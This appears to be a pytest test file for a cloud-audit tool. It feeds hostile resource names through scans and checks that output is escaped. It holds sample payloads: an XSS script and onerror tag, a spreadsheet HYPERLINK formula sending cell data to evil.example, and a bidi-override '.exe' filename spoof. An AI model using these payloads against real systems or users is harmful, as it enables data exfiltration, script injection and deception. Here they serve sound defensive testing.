"""Rows that lie politely and names that bite: a scan keeps, counts and judges all of them, and shows them safely."""

from __future__ import annotations

import csv
import dataclasses
import hashlib
import io
import json
from collections import Counter
from collections.abc import Iterator
from datetime import datetime, timedelta
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from cli_case import run
from fault_world import SECTIONS, pack, small_story

from auditor import config as configuration
from auditor import keys
from auditor.ledger import Filters, Ledger
from auditor.sandbox.estate import Estate
from auditor.sandbox.estate_records import object_event, stamp, user_identity
from auditor.scan import Scan, scan

if TYPE_CHECKING:
    from click.testing import Result

MAIN = "111111111111"
BUCKET = "acme-claims-phi"
FOLDER = "claims/date=2026-01-06/"
HTML = '<script>alert(1)</script><img src=x onerror="alert(2)">'
FORMULA = '=HYPERLINK("https://evil.example?"&A1,"open")'
BIDI = "report\u202egpj.exe\u2066\u200b"
NUL = "before\x00after"
SURROGATE = "half\ud800pair\udc00"
NAMES = {"html": HTML, "formula": FORMULA, "bidi": BIDI, "nul": NUL, "surrogate": SURROGATE}
MEGABYTE = "x" * (1 << 20)
TWICE = (
    '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Federated":"accounts.google.com"},'
    '"Action":"sts:AssumeRoleWithWebIdentity"}],"Statement":[],"Statement":[{"Effect":"Deny","Principal":"*",'
    '"Action":"*"}]}'
)
KEPT = (HTML, FORMULA, BIDI, "before\\u0000after", "half\\ud800pair\\udc00")
"""Each name as it is kept: what no database takes is written out, everything else is as it was."""
OBEYED = {"\x00", "\x1b", "\u202e", "\u2066", "\u200b", "\ud800"}
"""What a terminal or a browser would obey or hide."""
ROLES, LEFT = 24, 2
"""Roles before and after: more than half of the account's are gone, and no event tells of it."""


@pytest.fixture(scope="module")
def estate() -> Iterator[Estate]:
    played = Estate.open(small_story())
    played.advance(1)
    yield played
    played.close()


@pytest.fixture(scope="module")
def scans(estate: Estate, tmp_path_factory: pytest.TempPathFactory) -> tuple[Scan, Scan, Path]:
    """Scan two weeks: a quiet first, then everything hostile at once, and most roles gone without a word."""
    folder = tmp_path_factory.mktemp("hostile")
    config = configuration.load(estate.config(folder), SECTIONS)
    for n in range(ROLES):
        estate.aws.put_role(MAIN, f"wide-{n:02d}", trust=TWICE, at=estate.now(1), max_session_s=43200)
    roles = [f"arn:aws:iam::{MAIN}:role/wide-{n:02d}" for n in range(ROLES)]
    federation = tuple(dataclasses.replace(config.federation[0], role_arn=arn) for arn in roles)
    config = dataclasses.replace(config, federation=(*config.federation, *federation))
    with Ledger.open(folder / "state" / "ledger.sqlite3", create=True) as ledger:
        first = scan(config, ledger, pack(), now=estate.now(1), slot="W01")
        estate.advance(2)
        poison(estate)
        people(folder)
        return first, scan(config, ledger, pack(), now=estate.now(2), slot="W02"), folder


def poison(estate: Estate) -> None:
    """Put every hostile name wherever its cloud takes it."""
    at = estate.now(2) - timedelta(days=2)
    for n, (kind, name) in enumerate(NAMES.items()):
        estate.aws.put_plan(MAIN, "eu-west-1", name, at=at, rules=[rule(kind)])
        estate.aws.put_backup_job(
            MAIN, "eu-west-1", vault_arn=estate.story.vault_arn("phi"), resource_arn=f"arn:aws:s3:::{BUCKET}",
            state="FAILED", created_at=at, completed_at=at + timedelta(minutes=5), message=name, job_id=f"HOSTILE-{n}",
        )  # fmt: skip
        estate.aws.put_events(MAIN, "eu-west-1", [written(n, kind, name, at)])
        if kind != "surrogate":  # protobuf and S3's XML take no half characters
            estate.gcp.add_job(job(name, n, at), "acme-claims", "europe-west1")
            estate.aws.put_object(BUCKET, f"{FOLDER}{name}".replace("\x00", ""), b"1", at=at)
        estate.aws.set_bucket("acme-hr-internal", tags={"owner": name, "compliance-zone": HTML})
    big = job("big", 98, at) | {"labels": {"zone": MEGABYTE, "note": MEGABYTE}}
    estate.gcp.add_job(big, "acme-claims", "europe-west1")
    estate.gcp.add_entries(entries(at))
    lacking = [without(field, at - timedelta(days=1)) for field in ("userIdentity", "requestParameters")]
    estate.aws.put_events(MAIN, "eu-west-1", lacking)
    iam = client(estate)
    for n in range(ROLES - LEFT):
        iam.delete_role(RoleName=f"wide-{n:02d}")


def written(n: int, kind: str, name: str, at: datetime) -> dict[str, Any]:
    """Return the data event of a write under a key, by a user and with a program that bear the name."""
    who = user_identity(MAIN, kind, f"AKIAHOSTILE{n:09d}")
    who |= {"arn": f"arn:aws:iam::{MAIN}:user/{name}", "userName": name}
    event = object_event(
        MAIN, "eu-west-1", "PutObject", bucket=BUCKET, key=kind, version=f"v{n}", size=1, who=who, at=at
    )
    asked = {**event["requestParameters"], "key": f"{FOLDER}{name}"}
    return {**event, "requestParameters": asked, "userAgent": name}


def entries(at: datetime) -> list[dict[str, Any]]:
    """Return audit entries that lack what every such entry has."""
    bare = {
        "logName": "projects/acme-claims/logs/cloudaudit.googleapis.com%2Factivity",
        "timestamp": stamp(at),
    }
    audit = {"@type": "type.googleapis.com/google.cloud.audit.AuditLog"}
    method = "google.cloud.dataproc.v1.JobController.SubmitJob"
    submit = {**audit, "serviceName": "dataproc.googleapis.com", "methodName": method}
    return [
        {**bare, "insertId": "no-payload"},
        {**bare, "insertId": "nothing-in-it", "protoPayload": audit},
        {**bare, "insertId": "no-caller-no-job", "protoPayload": submit},
        {**bare, "insertId": "torn", "protoPayload": {**submit, "@bytes": b"\xff\xff\xff"}},
    ]


def rule(kind: str) -> dict[str, Any]:
    return {"RuleName": kind, "TargetBackupVaultName": "phi", "ScheduleExpression": "cron(0 5 ? * * *)"}


def job(name: str, n: int, at: datetime) -> dict[str, Any]:
    return {
        "reference": {"projectId": "acme-claims", "jobId": name},
        "jobUuid": f"00000000-0000-0000-0000-{n:012d}",
        "placement": {"clusterName": name},
        "labels": {"owner": name, "zone": name, "export": name},
        "pysparkJob": {"mainPythonFileUri": name, "args": [f"s3a://{BUCKET}/{name}/", name]},
        "status": {"state": "DONE", "stateStartTime": stamp(at), "details": name},
        "statusHistory": [{"state": "PENDING", "stateStartTime": stamp(at)}],
        "done": True,
    }


def without(field: str, at: datetime) -> dict[str, Any]:
    """Return the data event of a write that lacks a field."""
    who = user_identity(MAIN, "nobody", "AKIANOBODY0000000001")
    event = object_event(
        MAIN,
        "eu-west-1",
        "PutObject",
        bucket=BUCKET,
        key=f"{FOLDER}{field}",
        version="v",
        size=1,
        who=who,
        at=at,
    )
    return {name: value for name, value in event.items() if name != field}


def client(estate: Estate) -> Any:
    import boto3

    keys = {"aws_access_key_id": MAIN, "aws_secret_access_key": "none", "region_name": "us-east-1"}
    return boto3.client("iam", endpoint_url=estate.endpoints[0], **keys)


def people(folder: Path) -> None:
    """Let the directory hold what a spreadsheet would run and a browser would draw."""
    with (folder / "users.csv").open("a", encoding="utf-8", newline="") as file:
        for n, name in enumerate((HTML, FORMULA, BIDI)):
            quoted = name.replace('"', '""')
            file.write(f'h-{n},"{quoted}@acme.example",active,,"{quoted}",\n')


def test_every_hostile_row_is_kept_and_counted(scans: tuple[Scan, Scan, Path]) -> None:
    snapshot = scans[1].snapshot
    jobs = Counter(row["job_id"] for row in snapshot.rows("dataproc_job"))
    assert {jobs[name] for name in (*KEPT[:-1], "big")} == {1}
    plans = Counter(row["name"] for row in snapshot.rows("backup_plan"))
    assert {plans[name] for name in KEPT} == {1}
    messages = Counter(row["message"] for row in snapshot.rows("backup_job"))
    assert {messages[name] for name in KEPT} == {1}
    writes = Counter(row["key"] for row in snapshot.rows("s3_data_event"))
    assert {writes[f"{FOLDER}{name}"] for name in KEPT} == {1}
    listing = Counter(row["key"] for row in snapshot.rows("s3_object_version"))
    assert {listing[f"{FOLDER}{name}"] for name in (HTML, FORMULA, BIDI)} == {1}
    emails = Counter(row["email"] for row in snapshot.rows("directory_user"))
    assert {emails[f"{name}@acme.example".lower()] for name in (HTML, FORMULA, BIDI)} == {1}
    snapshot.verify()


def test_a_megabyte_of_label_is_cut_where_it_says_what_it_was(scans: tuple[Scan, Scan, Path]) -> None:
    (big,) = (row for row in scans[1].snapshot.rows("dataproc_job") if row["job_id"] == "big")
    label = big["labels"]["note"]
    digest = hashlib.sha256(MEGABYTE.encode()).hexdigest()
    assert label.endswith(f"xxx …[cut: {len(MEGABYTE)} bytes, sha256 {digest}]")
    assert len(label) < 70_000


def test_every_hostile_row_is_judged_once_and_none_by_an_error(scans: tuple[Scan, Scan, Path]) -> None:
    done = scans[1]
    outcomes = list(done.judgement.outcomes())
    assert max(Counter((one.rule, one.subject_key) for one in outcomes).values()) == 1
    judged = {one.subject_key for one in outcomes}
    for row in done.snapshot.rows("dataproc_job"):
        assert row["job_uuid"] in judged
    foreign = {one.subject_key for one in outcomes if (one.code, one.verdict) == ("CHN-007", "fail")}
    assert {f"{BUCKET}/{FOLDER}{name}@v{n}" for n, name in enumerate(KEPT)} <= foreign
    assert not [one for one in outcomes if one.reason == "error"]


def test_records_without_their_fields_are_gaps_and_never_rows_that_prove(
    scans: tuple[Scan, Scan, Path],
) -> None:
    done = scans[1]
    gaps = {(gap.table, gap.reason) for gap in done.gaps}
    assert ("gcp_audit_entry", "malformed") in gaps
    assert ("s3_data_event", "malformed") in gaps
    assert not done.row.complete
    nobodys = f"{BUCKET}/{FOLDER}userIdentity@v"
    about = {one.rule: one.verdict for one in done.judgement.outcomes() if one.subject_key == nobodys}
    assert about == {"no-write-without-origin": "unknown", "written-by-the-export-role": "unknown"}
    hostile = [row for row in done.judgement.rows("export") if row["job_uuid"].startswith("00000000-")]
    assert {row["trigger_state"] for row in hostile} == {"unknown"}


def test_a_trust_policy_that_says_a_thing_twice_is_kept_as_it_is_and_never_passes(
    scans: tuple[Scan, Scan, Path],
) -> None:
    roles = [row for row in scans[0].snapshot.rows("iam_role") if row["name"].startswith("wide-")]
    assert len(roles) == ROLES
    assert {row["trust_policy"] for row in roles} == {TWICE}
    assert {row["trust_error"] for row in roles} == {"key 'Statement' stands twice in one object"}
    about = [one for one in scans[0].judgement.outcomes() if "role/wide-" in one.subject_key]
    # What a role may do stands in its other policies, and they can be read: it may nothing.
    assert {one.code for one in about if one.verdict == "pass"} <= {"FED-013"}
    assert {one.verdict for one in about if one.code != "FED-013"} <= {"fail", "unknown", "not_applicable"}


def test_most_of_a_population_gone_without_a_word_is_suspect_and_resolves_nothing(
    scans: tuple[Scan, Scan, Path],
) -> None:
    first, second, folder = scans
    assert ("iam_role", MAIN, "suspect") in {(gap.table, gap.account, gap.reason) for gap in second.gaps}
    failing = {
        one.subject_key
        for one in first.judgement.outcomes()
        if one.verdict == "fail" and one.subject_table == "role" and "/wide-" in one.subject_key
    }
    assert len(failing) == ROLES
    with Ledger.open(folder / "state" / "ledger.sqlite3") as ledger:
        still = {one.subject_key for one in ledger.findings(Filters(state="open")) if one.code == "FED-006"}
    assert failing <= still
    ended = [
        one for one in second.drift if one.kind in ("resolved", "vanished") and "/wide-" in one.subject_key
    ]
    assert ended == []


def asked(folder: Path, *command: str) -> Result:
    """Run a command on the hostile state; it may only say that the scan was incomplete."""
    done = run(*command, "-c", str(folder / "config.toml"))
    assert done.exit_code in (0, 4), done.stderr
    return done


@pytest.mark.parametrize(
    "command", ["status", "exports", "findings", "outcomes", "drift", "protection", "orphans"]
)
@pytest.mark.parametrize("form", ["text", "json"])
def test_no_command_shows_what_a_terminal_would_obey(
    scans: tuple[Scan, Scan, Path], command: str, form: str
) -> None:
    said = asked(scans[2], command, *(["--json"] if form == "json" else [])).stdout
    assert said
    if form == "json":
        json.loads(said)
    assert not OBEYED & set(said)


def test_a_resource_that_came_is_said_to_be_new(scans: tuple[Scan, Scan, Path]) -> None:
    said = asked(scans[2], "drift", "--limit", "1000").stdout.splitlines()
    plans = [line for line in said if line.startswith("appeared") and "backup_pla" in line]
    assert plans
    assert all("is new" in line for line in plans)
    assert not [line for line in said if "None" in line]


def test_a_finding_of_each_hostile_name_can_be_explained(scans: tuple[Scan, Scan, Path]) -> None:
    for n, name in enumerate(KEPT):
        said = asked(scans[2], "explain", "CHN-007", f"{BUCKET}/{FOLDER}{name}@v{n}").stdout
        assert "NOT foreign_writer" in said
        assert not OBEYED & set(said)


def test_a_sample_holds_no_formula_and_every_row(scans: tuple[Scan, Scan, Path]) -> None:
    csv.field_size_limit(1 << 20)  # two labels of a job, each as long as any text may be
    for table in ("dataproc_job", "s3_data_event", "backup_plan", "directory_user"):
        said = asked(scans[2], "sample", table, "--n", "1000", "--seed", "1").stdout
        rows = list(csv.reader(io.StringIO(said)))[1:]
        assert len(rows) == sum(1 for _ in scans[1].snapshot.rows(table))
        assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))]
        assert not OBEYED & set(said)


def test_the_report_draws_no_markup_of_others(scans: tuple[Scan, Scan, Path], tmp_path: Path) -> None:
    asked(scans[2], "report", "weekly", "--out", str(tmp_path))
    (page,) = tmp_path.iterdir()
    text = page.read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)" in text
    assert "<script>alert(1)" not in text
    assert 'onerror="alert' not in text
    assert not OBEYED & set(text)


def test_a_bundle_of_it_verifies_and_judges_the_same_again(
    scans: tuple[Scan, Scan, Path], tmp_path: Path
) -> None:
    keys.new(scans[2] / "signing.key")
    asked(scans[2], "bundle", "create", "--out", str(tmp_path))
    (bundle,) = tmp_path.iterdir()
    pin = keys.load(scans[2] / "signing.key").fingerprint
    assert run("bundle", "verify", str(bundle), "--key", pin).exit_code == 0
    assert run("replay", str(bundle)).exit_code == 0
